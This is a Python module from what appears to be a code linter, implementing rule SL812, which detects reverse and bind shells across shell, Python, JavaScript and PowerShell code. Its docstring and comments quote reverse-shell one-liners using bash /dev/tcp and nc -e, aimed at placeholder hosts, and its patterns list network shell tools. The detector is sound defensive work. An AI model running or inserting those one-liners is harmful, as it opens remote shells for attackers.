"""Reverse and bind shells (SL812): code that hands a shell to whoever is at the other end of a
network connection, in the package's scripts and code blocks (:mod:`skilllint.skill.security.code_units`).

What makes one is the same in every language: a shell (``sh``, ``bash``, ``cmd.exe``,
``powershell``) whose input and output are a network connection. In shell code that is a
shell redirected to ``/dev/tcp``/``/dev/udp`` (``bash -i >& /dev/tcp/h/p 0>&1``, ``exec 5<>/dev/tcp/…``),
``nc``/``ncat`` told to run one (``-e``, ``-c``, ``--exec``, ``--sh-exec``), ``socat`` joining a
``tcp:``/``tcp-listen:`` address to an ``exec:``/``system:`` one, or a pipeline in which a shell
and a network tool feed each other (``cat f | sh -i 2>&1 | nc h p > f``). In Python (read with
:mod:`ast`) it is a socket connected or accepted and a shell run on it: the socket's descriptor
duplicated onto 0, 1 and 2 (``os.dup2``) before a shell or ``pty.spawn``, or given to
``subprocess`` as its standard streams. Inline code run by an interpreter (``python -c``,
``perl -e``, ``php -r``, ``ruby -e``) and JavaScript and PowerShell are judged on their text: a
socket or TCP client and a shell started in the same piece of code, joined by a pipe or by the
stream read from the socket.
"""

from __future__ import annotations

import ast
from dataclasses import dataclass

from ... import lazyre
from .code_units import CodeUnit
from .python_flow import called_name
from .shell_flow import logical_lines, split_outside_quotes, stage_of

_SHELLS = lazyre.compile(r"(?i)(?:^|[/\\\s'\"(\[,])(?:ba|z|k|da|c|tc|fi)?sh(?:\.exe)?\b|\bcmd(?:\.exe)?\b|\bpowershell(?:\.exe)?\b|\bpwsh\b")
_DEV_NET = lazyre.compile(r"/dev/(?:tcp|udp)/[^/\s\"']+/\d+")
_NC_EXEC = frozenset({"-e", "-c", "--exec", "--sh-exec", "--lua-exec"})
_SOCAT_NET = lazyre.compile(r"(?i)\b(?:tcp|tcp4|tcp6|udp|ssl|openssl)(?:-listen|-connect)?:")
_SOCAT_EXEC = lazyre.compile(r"(?i)\b(?:exec|system):")
_NETWORK_TOOLS = frozenset({"nc", "ncat", "netcat", "socat", "telnet", "openssl"})
_INLINE = {"python": ("-c",), "python3": ("-c",), "perl": ("-e", "-E"), "php": ("-r",), "ruby": ("-e",), "node": ("-e", "--eval"), "lua": ("-e",)}
# A socket or TCP client, and a shell started, in one piece of code (inline scripts, JavaScript, PowerShell).
_TEXT_SOCKET = lazyre.compile(
    r"(?i)\bsocket\s*\(|\bfsockopen\s*\(|\bTCPSocket\b|\bnet\.(?:connect|createConnection|Socket)\b|\bnew\s+net\.Socket\b"
    r"|\bSystem\.Net\.Sockets\.TCPClient\b|\bTCPClient\s*\(|\bIO::Socket\b|\bsocket\.create_connection\b"
)
_TEXT_SHELL_RUN = lazyre.compile(
    r"(?i)\b(?:exec|system|spawn|popen|proc_open|passthru|shell_exec|execSync|spawnSync|Start-Process|pty\.spawn|subprocess\.\w+)\s*\("
    r"|\bexec\s+\{|\bexec\s+['\"]"
)
_TEXT_EVAL = lazyre.compile(r"(?i)\biex\b|\bInvoke-Expression\b")
# What a line that opens a descriptor on /dev/tcp does with what it reads: runs it.
_RUNS_WHAT_IT_READS = lazyre.compile(r"\$line\b|\beval\b|\b(?:ba)?sh\b(?:\s+-i)?\s*<&")
_TEXT_JOINED = lazyre.compile(r"(?i)\.pipe\s*\(|dup2|<&\s*\d|>&\s*\d|\bGetStream\s*\(|stdio\s*:|\bSTDIN\b|\bsock\b|\$sock\b")
MAX_BYTES = 512 * 1024
_COMMAND_CALLS = frozenset({"system", "popen", "Popen", "run", "call", "check_call", "check_output", "getoutput", "getstatusoutput"})


@dataclass(frozen=True, eq=False, repr=False)
class RemoteShell:
    unit: CodeUnit
    line: int  # file line
    column: int
    what: str  # how the shell is handed over


def remote_shells(units: list[CodeUnit]) -> list[RemoteShell]:
    found: list[RemoteShell] = []
    for unit in units:
        if len(unit.text) > MAX_BYTES:
            continue
        if unit.lang == "shell":
            found.extend(s for s in _shell(unit) if not unit.shown_as_attack)
        elif unit.lang == "python":
            found.extend(s for s in _python(unit) if not unit.shown_as_attack)
        elif unit.lang in ("js", "powershell") and _text_shell(unit.text) and not unit.shown_as_attack:
            found.append(RemoteShell(unit, unit.first_line, 1, f"this {'JavaScript' if unit.lang == 'js' else 'PowerShell'} connects a socket and runs a shell over it"))
    return found


# What a line that hands over a shell names: a /dev/tcp path, a netcat or socat, or a socket in
# inline code. A line without one is not split at all.
_NETWORK_HINT = lazyre.compile(r"/dev/(?:tcp|udp)/|\b(?:nc|ncat|netcat|socat)\b|socket|fsockopen|TCPClient|TCPSocket|net\.")


def _shell(unit: CodeUnit) -> list[RemoteShell]:
    found = []
    if not _NETWORK_HINT.search(unit.text):
        return found
    for line, column, text in logical_lines(unit):
        if not _NETWORK_HINT.search(text):
            continue
        what = _shell_line(text)
        if what is not None:
            found.append(RemoteShell(unit, line, column, what))
    return found


def _shell_line(text: str) -> str | None:
    opened = _DEV_NET.search(text)
    if opened is not None and text.lstrip().startswith("exec ") and _RUNS_WHAT_IT_READS.search(text):
        return f"`exec` opens `{opened.group()}` and the line runs what it reads from it"
    for command in split_outside_quotes(text, ("&&", "||", ";", "&")):
        stages = [s for s in (stage_of(raw, 0, 0) for raw in split_outside_quotes(command, ("|",))) if s.words]
        programs = [s.words[0].rsplit("/", 1)[-1] for s in stages]
        for stage, program in zip(stages, programs):
            if _DEV_NET.search(stage.raw) and (_SHELLS.search(" " + program) or program == "exec"):
                return f"`{program}` with its input and output on `{_DEV_NET.search(stage.raw).group()}`"
            if program in ("nc", "ncat", "netcat"):
                for flag, value in zip(stage.words, stage.words[1:] + [""]):
                    if flag in _NC_EXEC or any(flag.startswith(f + "=") for f in _NC_EXEC if f.startswith("--")):
                        return f"`{program} {flag}` runs `{value or flag.split('=', 1)[-1]}` for whoever connects"
            if program == "socat" and _SOCAT_NET.search(stage.raw) and _SOCAT_EXEC.search(stage.raw):
                return "`socat` joins a network address to a shell (`exec:`/`system:`)"
            if program in _INLINE:
                code = _inline_code(stage.words, _INLINE[program])
                if code and (_python_text(code) if program.startswith("python") else _text_shell(code)):
                    return f"`{program}` runs inline code that connects a socket and runs a shell over it"
        if len(stages) >= 2 and any(_SHELLS.search(" " + p + " ") and p not in _NETWORK_TOOLS for p in programs) and any(p in _NETWORK_TOOLS for p in programs):
            shell_index = next(i for i, p in enumerate(programs) if _SHELLS.search(" " + p + " ") and p not in _NETWORK_TOOLS)
            if "-c" not in stages[shell_index].words:
                net = next(p for p in programs if p in _NETWORK_TOOLS)
                return f"a pipeline feeds `{programs[shell_index]}` from `{net}` and back"
    return None


def _inline_code(words: list[str], flags: tuple[str, ...]) -> str | None:
    for flag, value in zip(words, words[1:]):
        if flag in flags:
            return value
    return None


def _text_shell(code: str) -> bool:
    """A socket and a shell run over it in one piece of code: a shell program started, or what
    was read evaluated as commands (``iex``, ``Invoke-Expression``)."""
    if not (_TEXT_SOCKET.search(code) and _TEXT_JOINED.search(code)):
        return False
    return bool(_TEXT_EVAL.search(code) or _TEXT_SHELL_RUN.search(code) and _SHELLS.search(code))


def _python_text(code: str) -> bool:
    try:
        tree = ast.parse(code)
    except (SyntaxError, ValueError, RecursionError, MemoryError):
        return _text_shell(code)
    return _python_tree(tree) is not None


def _python(unit: CodeUnit) -> list[RemoteShell]:
    if not _NETWORK_HINT.search(unit.text):
        return []  # neither a socket nor a shell line that could hand a shell over: nothing to parse
    try:
        tree = ast.parse(unit.text)
    except (SyntaxError, ValueError, RecursionError, MemoryError):
        return []
    found = []
    node = _python_tree(tree)
    if node is not None:
        found.append(RemoteShell(unit, unit.first_line + node.lineno - 1, node.col_offset + 1, "this code connects a socket and runs a shell on it"))
    for call in (n for n in ast.walk(tree) if isinstance(n, ast.Call) and called_name(n.func) in _COMMAND_CALLS and n.args):
        first = call.args[0]
        if isinstance(first, ast.Constant) and isinstance(first.value, str):
            what = _shell_line(first.value)  # os.system("nc -e /bin/sh h p"): the same shell line
            if what is not None:
                found.append(RemoteShell(unit, unit.first_line + call.lineno - 1, call.col_offset + 1, what))
    return found


def _python_tree(tree: ast.AST) -> ast.Call | None:
    """The call that runs a shell over a connected socket: a socket connected or accepted, then
    ``os.dup2`` of its descriptor and a shell (or ``pty.spawn``), or a shell given the socket as
    its streams. None when the code has no such pair."""
    calls = [n for n in ast.walk(tree) if isinstance(n, ast.Call)]
    names = [(called_name(c.func), c) for c in calls]
    connects = any(n in ("connect", "create_connection", "accept", "connect_ex") for n, _ in names)
    if not connects:
        return None
    dup2 = any(n == "dup2" for n, _ in names)
    for name, call in names:
        if name == "spawn" and dup2:
            return call
        if name in ("call", "run", "Popen", "check_call", "system", "execv", "execl", "execve", "execlp", "execvp"):
            shell = any(isinstance(a, ast.Constant) and isinstance(a.value, str) and _SHELLS.search(" " + a.value) for a in ast.walk(call))
            streams = any(k.arg in ("stdin", "stdout", "stderr") for k in call.keywords)
            if shell and (dup2 or streams):
                return call
    return None
